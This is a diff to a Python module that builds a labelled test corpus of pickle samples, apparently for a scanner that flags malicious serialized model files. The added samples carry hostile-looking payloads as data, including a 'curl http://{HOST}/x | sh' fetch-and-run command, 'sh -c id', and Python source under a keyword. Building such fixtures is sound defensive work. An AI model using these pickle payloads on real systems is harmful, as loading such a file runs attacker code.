@@ -4,7 +4,7 @@ import json
 
 from . import marshal
 from .keras import code_object, keras_file, layer, sequential
-from .opcodes import call, dumps
+from .opcodes import Global, NewObj, asm, call, dumps
 from .protobuf import message
 from .registry import CLEAN, COMMAND, HOST, MALICIOUS, SUSPICIOUS
 from .tensorflow import node, string_constant
@@ -19,7 +19,7 @@ def add_samples(corpus):
 def unlisted_callables(corpus):
     """Functions that no list has, told by what they are called or given."""
     def add(name, verdict, value, what, why):
-        corpus.add(f"pickle/{name}.pkl", verdict, dumps(value, 4), what, why)
+        corpus.add(f"pickle/{name}.pkl", verdict, value if isinstance(value, bytes) else dumps(value, 4), what, why)
 
     add("foreign-given-command", MALICIOUS, call("weighin_example.tools.prepare", COMMAND),
         f"a function of an unknown package, called with {COMMAND!r}", "no list has every helper that ends in a shell; what it is given gives it away")
@@ -33,6 +33,16 @@ def unlisted_callables(corpus):
         "a function of an unknown package, called with labels", "words that are programs too: the look-alike of a command")
     add("foreign-given-sentences", SUSPICIOUS, call("weighin_example.tools.prepare", ["cat | dog", "python | ruby"], "Sleep; wake up", "the lambda calculus", "import duties rose"),
         "a function of an unknown package, called with labels and sentences", "signs and words that shells and Python know stand in prose too")
+    add("foreign-given-words", MALICIOUS, call("weighin_example.tools.prepare", "sh", "-c", "id"),
+        "a function of an unknown package, called with the words of a command", "the same, word by word")
+    add("foreign-given-late", MALICIOUS, call("weighin_example.tools.prepare", list(range(100)), COMMAND),
+        "a function of an unknown package, called with a hundred numbers and a command", "padding hides nothing")
+    add("foreign-new-command", SUSPICIOUS, NewObj(Global("weighin_example.tools", "Prepare"), (f"curl http://{HOST}/x | sh",)),
+        "an object of an unknown class, made with a command", "`__new__` of the class is handed it")
+    add("foreign-new-keyword", SUSPICIOUS, asm("PROTO 4", "GLOBAL weighin_example.tools Prepare", "EMPTY_TUPLE", "EMPTY_DICT", "BINUNICODE run", "BINUNICODE __import__('os').getpid()", "SETITEM", "NEWOBJ_EX", "STOP"),
+        "an object of an unknown class, made with source under a keyword", "the same")
+    add("foreign-new-names", CLEAN, [NewObj(Global("weighin_example.records", "Row"), values) for values in [("cat", "python"), ("open the door; start now", 3), (f"https://{HOST}/paper", "cat.png"), ("import duties rose", "sort | of"), ("Node", "/data/images")]],
+        "records of an unknown class with labels, prose, an address and a path", "the look-alike of a command")
     add("framework-helper", MALICIOUS, call("torch.utils.weighin_example.prepare", 3),
         "a function of torch that rebuilds nothing", "frameworks are full of helpers; those that picklers write are known")
     add("framework-rebuild", SUSPICIOUS, call("torch._utils._rebuild_weighin_tensor", 3),
